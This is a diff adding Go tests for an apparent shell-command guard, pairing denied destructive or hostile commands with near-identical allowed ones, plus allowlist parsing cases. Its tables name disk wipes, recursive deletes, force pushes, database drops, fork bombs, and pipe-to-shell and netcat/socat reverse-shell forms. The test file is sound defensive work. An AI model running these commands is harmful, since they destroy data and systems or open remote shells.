@@ -1,0 +1,175 @@
+package shell_test
+
+import (
+	"testing"
+
+	"github.com/hookgen/hookgen/builtin/shell"
+)
+
+// TestRulesDenyExactlyDestructiveForms has pairs of commands that differ in one detail.
+func TestRulesDenyExactlyDestructiveForms(t *testing.T) {
+	for _, c := range []struct{ denied, allowed string }{
+		{"git push x +y", "git push +y"}, {"git push x :y", "git push x :"}, {"git push -f", "git push -nf"},
+		{"git push --force", "git push --force --dry-run"}, {"git push --mirror", "git push --tags"},
+		{"git push -d x y", "git push -u x y"}, {"git push --delete x y", "git push -- --delete"},
+		{"git push --forc", "git push --f"}, {"git send-pack --force x", "git send-pack x"},
+		{"git reset --hard", "git reset --soft"}, {"git reset --merge", "git reset --mixed"},
+		{"git clean -fdx", "git clean -nfdx"}, {"git clean --force", "git clean --force --dry-run"},
+		{"git checkout -f", "git checkout -b f"}, {"git checkout .", "git checkout main"},
+		{"git checkout -- ./", "git checkout -- x"}, {"git checkout HEAD :/", "git checkout HEAD x"},
+		{"git rm -r .", "git rm -r --cached ."}, {"git rm *", "git rm -n *"}, {"git switch -f x", "git switch x"},
+		{"git switch --discard-changes x", "git switch -c x"}, {"git restore .", "git restore --staged ."},
+		{"git restore -SW .", "git restore x"}, {"git restore --staged --worktree .", "git restore -S ."},
+		{"git stash drop", "git stash pop"}, {"git stash clear", "git stash list"}, {"git branch -D x", "git branch -d x"},
+		{"git branch -d -f x", "git branch --delete x"}, {"git branch --delete --force x", "git branch -f x y"},
+		{"git filter-branch x", "git filter-branch --help"}, {"git filter-repo x", "git filter-repo --analyze"},
+		{"git reflog expire x", "git reflog show"}, {"git reflog delete x", "git reflog"},
+		{"git gc --prune=now", "git gc --prune=2.weeks"}, {"git prune --prune=all", "git gc"},
+		{"git gc --prune=0", "git gc --pruned=now x"}, {"git update-ref -d x", "git update-ref x y"},
+		{"git worktree remove -f x", "git worktree remove x"}, {"git -C x reset --hard", "git -C reset --hard"},
+		{"git -c a=b reset --hard", "git -c reset --hard"}, {"git --no-pager reset --hard", "git --version"},
+		{"rm -rf x", "rm -f x"}, {"rm -r -f x", "rm -r x"}, {"rm --rec --fo x", "rm -- -rf x"}, {"rm x -rf", "rm x -f"},
+		{"rimraf x", "rimraf"}, {"rimraf --x y", "rimraf --help"}, {"rd /s x", "rd x"}, {"del /s /q x", "del /q x"},
+		{"Remove-Item -Recurse -Force x", "Remove-Item -Recurse x"}, {"ri -r -fo x", "ri -fo x"},
+		{"trash -rf /", "trash x"}, {"$x -rf y", "$x -r y"}, {"$x -fr y", "$x -f y"},
+		{"rm -r /", "rm -r /x/y"}, {"rm -r ..", "rm -r ../x"}, {"rm -r /usr/lib", "rm -r /usr/local/x"},
+		{"rm -r /usr/x", "rm -r /usr/x/y/z"}, {"rm -r /home/me", "rm -r /homes/me"}, {"rm -r ~x", "rm -r x"},
+		{"rm -r C:/", "rm -r C:/x/y"}, {"rm -r $x/", "rm -i $x/"}, {"rm -r /etc/*", "rm /etc/x"},
+		{"mv / x", "mv x /"}, {"mv x /dev/null", "mv x y"}, {"mv /etc x", "mv x /etc"}, {"mv /home/x y", "mv /tmp/x y"},
+		{"rsync --delete x /", "rsync --delete x y"}, {"rsync --del x /etc", "rsync x /etc"},
+		{"find x -delete", "find x -print"}, {"find x -exec rm {} +", "find x -exec cat {} +"},
+		{"fd x -X rm", "fd x -X cat"}, {"fd -x rm", "fd -x"}, {"find x -exec unlink {} \\;", "find x -name unlink"},
+		{"ls | xargs rm", "echo x | xargs rm"}, {"ls | xargs shred", "ls | xargs cat"},
+		{"dropdb x", "createdb x"}, {"mysqladmin drop x", "mysqladmin status"}, {"psql -c 'drop table x'",
+			"psql -c 'drop x'"},
+		{"psql -c 'drop/**/table x'", "psql -c '-- drop'"}, {"mongosh --eval 'db.dropDatabase()'", "mongosh --eval 'db.x()'"},
+		{"mongo <<< 'db.dropDatabase()'", "mongo <<< 'db.stats()'"}, {"drop table x", "drop x"},
+		{"psql -c 'drop schema x'", "grep 'drop table x' y"},
+		{"format c:", "format x"}, {"format.com Z:", "format 1:"}, {"diskpart", "disk"}, {"diskutil eraseDisk x",
+			"diskutil list"},
+		{"diskutil erasevolume", "diskutil"}, {"clear-disk 1", "clear"}, {"format-volume x", "format"},
+		{"mkfs x", "mkfss x"}, {"mkfs.ext4 x", "makefs x"}, {"newfs_hfs x", "new x"}, {"mkswap x", "swapon x"},
+		{"dd of=/dev/sda", "dd of=/dev/null"}, {"dd if=x of=//dev/sda", "dd if=/dev/sda of=x"}, {"pv of=/dev/sda", "pv x"},
+		{"x > /dev/sda", "x > /dev/stderr"}, {"x > /dev/mapper/y", "x > /dev/pts/1"}, {"x > /dev/sda1", "x > /dev/shm/y"},
+		{"x > /dev/../dev/sda", "x > /dev/../x"}, {`x > '\\.\PhysicalDrive0'`, "x > /dev/tty1"},
+		{"tee /dev/sda", "tee /dev/null"}, {"wipefs /dev/sda", "wipefs x"}, {"shred /dev/sda", "shred x"},
+		{"cp x /dev/sda", "cp /dev/sda x"}, {"ln x /dev/sda", "cp /dev/sda"}, {"cp -t /dev/sda x", "cp -t x /dev/sda.img/.."},
+		{"sort -o /dev/sda x", "sort /dev/sda"}, {"find x -fls /dev/sda", "find /dev/sda -ls"},
+		{"curl x | sh", "curl x | cat"}, {"nc x | sh", "ls | sh"}, {"curl x | python", "curl x | python y"},
+		{"base64 -d x | sh", "base64 x | sh"}, {"xxd -r x | sh", "xxd x | sh"}, {"openssl enc -d | sh", "openssl enc | sh"},
+		{"basenc --decode x | sh", "basenc x | sh"}, {"uudecode x | sh", "uuencode x | sh"},
+		{"tr N-ZA-M a | sh", "tr a b | sh"}, {"base64 --dec x | sh", "base64 --x | sh"},
+		{"x < /dev/tcp/h/1", "x < /dev/tcp"}, {"x > /dev/udp/h/1", "echo /dev/udp/h/1"},
+		{"nc -e sh h", "nc -l 80"}, {"ncat --exec sh", "ncat --ssl h 1"}, {"nc -le sh", "nc h 1"}, {"nc --sh-exec x h",
+			"nc -"},
+		{"socat x EXEC:sh", "socat x TCP:h"}, {"socat x system:sh", "socat"}, {"ncat --lua-exec x", "ncat --l"},
+		{"chmod -R 777 /", "chmod 777 /"}, {"chown --rec x /etc", "chown -R x y"}, {"chmod --recursive 7 ~", "chmod --r 7 x"},
+		{"icacls C:/ /t", "icacls C:/"}, {"takeown /r C:/", "takeown C:/"}, {"find / -exec chmod 7 {} +",
+			"find x -exec chmod 7 {} +"},
+		{"find / | xargs chown x", "find x | xargs chown y"},
+		{"find -x /; find ( /etc ) -exec chgrp x {} +; chmod -R 7 /usr", "chmod x /"},
+		{"shutdown now", "shutdown -c"}, {"reboot", "reboot --help"}, {"halt", "halt --version"}, {"init 0", "init"},
+		{"init 6", "init 3"}, {"telinit s", "telinit q"}, {"systemctl reboot", "systemctl restart x"},
+		{"systemctl --force kexec", "systemctl"}, {"kill -9 -1", "kill -1"}, {"kill -1 -1", "kill -1 5"},
+		{"kill -1 1 -1", "kill -9 1"},
+		{"echo b > /proc/sysrq-trigger", "cat /proc/sysrq-trigger"}, {"stop-computer", "get-computer"},
+		{"f() { f & }; f", "f() { g & }; f"}, {"f() { f | f; }; f", "f() { f; }; f"}, {"f() { f | x; }", "f() { x | x; }"},
+		{"perl -e 'fork while 1'", "perl -e 'fork'"}, {"python -c 'while 1: os.fork()'", "python -c 'while 1: x()'"},
+		{"terraform destroy", "terraform destroy --help"}, {"terraform -chdir=x destroy", "terraform plan destroy"},
+		{"terraform apply -destroy", "terraform apply"}, {"terraform state rm x", "terraform state list"},
+		{"terraform apply x -destroy", "terraform destroy -h"}, {"kubectl -n x delete y", "kubectl get delete"},
+		{"kubectl delete x", "kubectl delete x --dry-run=client"}, {"kubectl delete -h x", "kubectl delete x --dryrun"},
+		{"aws s3 rb x", "aws s3 ls"}, {"aws ec2 terminate-instances", "aws terminate-instances"}, {"aws x delete-y",
+			"aws delete-y"},
+		{"aws s3 rm x --recursive", "aws s3 rm x"}, {"aws x deregister-y", "aws x describe-delete-y"},
+		{"gcloud compute instances delete x", "gcloud compute instances list"}, {"docker volume rm x", "docker volume ls"},
+		{"docker compose down -v", "docker compose down"}, {"docker compose --x down --volumes", "docker compose up -v"},
+		{"lvremove", "lvs"}, {"lvremove x", "lvcreate x"}, {"redis-cli -h x flushall", "redis-cli get flushall"},
+		{"redis-cli FLUSHDB", "redis-cli get"},
+		{"crontab -r", "crontab -l"}, {"npm unpublish x", "npm publish x"}, {"zfs destroy x", "zfs list destroy"},
+	} {
+		for command, want := range map[string]bool{c.denied: true, c.allowed: false} {
+			t.Run(command, func(t *testing.T) {
+				if got := denied(t, &shell.Guard{}, command); (got != "") != want {
+					t.Errorf("%q", got)
+				}
+			})
+		}
+	}
+}
+
+// TestRulesAllowOnlyTheCommonLanguage has texts with git and cat, which the globs cover, in constructs that the
+// shells, the parser and the rules must agree about.
+func TestRulesAllowOnlyTheCommonLanguage(t *testing.T) {
+	const (
+		no = iota
+		all
+		bash
+	)
+	for command, want := range map[string]int{
+		"git a": all, "git a; cat b": all, "git a && cat b || git c": all, "git a | cat | cat": all, "(git a)": all,
+		"{ git a; }": all, "! git a": all, "git a &": all, "if git a; then cat b; else git c; fi": all,
+		"if git a; then rm b; fi": no, "if rm a; then git b; fi": no, "if git a; then git b; else rm c; fi": no,
+		"if git a; then git b; elif rm c; then git d; fi": no, "if git a; then git b; elif git c; then rm d; fi": no,
+		"while git a; do cat b; done": all, "while rm a; do cat b; done": no, "until git a; do rm b; done": no,
+		"for x in a b; do cat $x; done": all, "for x in $(rm a); do git b; done": no, "for x in a; do rm b; done": no,
+		"for x in a; { git b; }": no, "for ((;;)); do git a; done": no, "select x in a; do git b; done": no,
+		"case a in b) git c;; esac": all, "case $(rm a) in b) git c;; esac": no, "case a in $(rm b)) git c;; esac": no,
+		"case a in b) rm c;; esac": no, "case a in b) git c;& d) git e;; esac": no,
+		"case a in b) git c;;& d) git e;; esac": no,
+		"time git a":                            bash, "coproc git a": no, "f() { git a; }": no, "function f { git a; }": no, "((1)); git a": no,
+		"let x=1":             no,
+		"[[ -f a ]] && git b": bash, "git a > /dev/null": all, "git a > b": no, "git a >> /dev/null": all,
+		"git a &> /dev/null": bash,
+		"git a <> /dev/null": no, "git a >| /dev/null": all, "git a >&2": all, "git a 2>&1": all, "git a >&-": all,
+		"git a >&x": no, "git a >&22": no, "git a 22>&1": no, "git a {x}>&1": no, "git a < b": all, "git a < $b": no,
+		"git a < b*": no, "git a < ~/b": no, "git a < /dev/tcp/b/1": no, "git a < /dev/udp/b/1": no, "git a < \\b": no,
+		"cat <<X\na\nX": all, "cat <<'X'\n$(rm a)\nX": all, "cat <<\"X\"\n$(rm a)\nX": all, "cat <<X\n$(rm a)\nX": no,
+		"cat <<$'X'\na\nX": no, "cat <<X-Y\na\nX-Y": no, "cat <<'X Y'\na\nX Y": no, "cat <<\"X Y\"\na\nX Y": no,
+		"cat <<X''\na\nX": no, "cat <<X\n$a ${b:-c}\nX": all, "cat <<X\n${b:=c}\nX": no, "cat <<X\na\\\nX\nX": no,
+		"cat <<'X'\na\\\nb\nX": no, "cat <<X\nX": all, "cat <<\\X\na\nX": no, "cat <<\"X$a\"\nb\nX$a": no,
+		"cat <<X\n#\n$(git a)\nX": all, "cat <<-X\n\ta\n\tX": all, "cat <<X <<Y\na\nX\n$(rm a)\nY": no,
+		"cat <<< a": bash, "cat <<< $(rm a)": no, "cat <<< \"a b\"": bash, "cat <<< $(git a)": bash,
+		"git $'a'": bash, "git $'a\\nb'": bash, "git $\"a\"": no, "git \"a b\" 'c d' e\\ f": all, "git $[1]": no,
+		"git a$": no, "git \"a$\"": no,
+		"git `git a`": no, "cat $(git a)": all, "cat \"$(git a)\"": all, "git $(rm a)": no, "git \"$(rm a)\"": no,
+		"git ${ git a; }": no,
+		"cat <(git a)":    bash, "cat <(rm a)": no, "cat $((1+2))": all, "git $((x))": no, "git $((1+$(rm a)))": no,
+		"git $((a[1]))": no,
+		"git @(a)":      no, "git !(a)": no, "git $a": no,
+		"cat $a ${a} ${a:-b} ${a-b} ${a:+b} ${a+b} ${a#b} ${a##b} ${a%b} ${a%%b} ${#a}": all,
+		"git ${a:=b}": no, "git ${a=b}": no, "git ${a:?b}": no, "git ${a?b}": no, "git ${!a}": no, "git ${a@P}": no,
+		"git ${a^}":   no,
+		"git ${a[1]}": no, "git ${a:1}": no, "git ${a/b/c}": no, "git ${!a*}": no, "git ${a:-$b}": no,
+		"git ${a:-'b'}": no, "git ${a:-b c}": no,
+		"a=b; cat $a": all, "a=$(git b)": all, "a=$(rm b)": no, "a[0]=b": no, "a=(b)": no, "a+=(b)": no, "A=b git c": no,
+		"PATH=a git b": no, "LANG=C git a": all, "LC_ALL=$a git b": no, "export a=b": all, "export -n a": no,
+		"export $a": no, "export A=b": no,
+		"declare a=b": no, "readonly a=b": no, "local a=b": no, "typeset a=b": no, "export CI=1 a": all, "export CI=$a": no,
+		"git a # b": all, "git a #b\\\ngit c": no, "git a#b": all, "git #a": no, "git ''#a": all, "git a\\\n b": no,
+		"git a \\\nb": all,
+		"git a\\":     no, "git a \\\n": no, "git a\r": no, "git a\tb": all, "git a\vb": no, "git \u2028": no,
+		"git \u200b": no, "git \u00ad": no,
+		"git \ufeff": no, "git é": all, "git \u00c0": all, "git '\u00e0'": all, "git \u00e0": no, "git à b": no,
+		"git \"à\"": all,
+		"git 'a":    no, "git \"a": no, "git $(a": no, "git ((": no, "git )": no, "git a;; b": no, ";git": no, "git &&": no,
+		"": no, " ": no, "# a": no,
+		"cat {a,b}": all, "cat {a,b}c": all, "git {a,b}": no, "{git,rm} a": no, "gi? a": no, "g*t a": no, "$a b": no,
+		"git$a b": no, "'git' a": all, "\"git\" a": all,
+		"\\git a": all, "./git a": no, "/usr/bin/git a": no, "GIT a": no, "~/git a": no, "cat": all, "git": no, "catx": no,
+		"git a | sh": no, "git a | xargs cat": no, "eval git a": no, "command git a": no, "exec git a": no, "nohup git a": no,
+		"env git a": no, "sudo git a": no, "git a ;cat b; rm c": no, "git a | rm b": no, "rm a | git b": no,
+		"git a\nrm b": no, "git a & rm b": no,
+		"git a || rm b": no, "(rm a)": no, "{ rm a; }": no, "git a; (cat b; rm c)": no, "git a | (cat b | rm c)": no,
+		"alias git=rm":   no,
+		"git -c a.b=c d": all, "git -c alias.a='!rm' b": no, "git -c core.pager=rm a": no, "git -c core.pager='cat a' b": all,
+	} {
+		for dialect, in := range map[shell.Dialect]bool{shell.AnyShell: want == all, shell.Bash: want != no} {
+			t.Run(string(dialect)+"/"+command, func(t *testing.T) {
+				if got := allowed(t, dialect, []string{"git *", "cat", "cat *", "export *"}, command); got != in {
+					t.Errorf("got %t", got)
+				}
+			})
+		}
+	}
+}
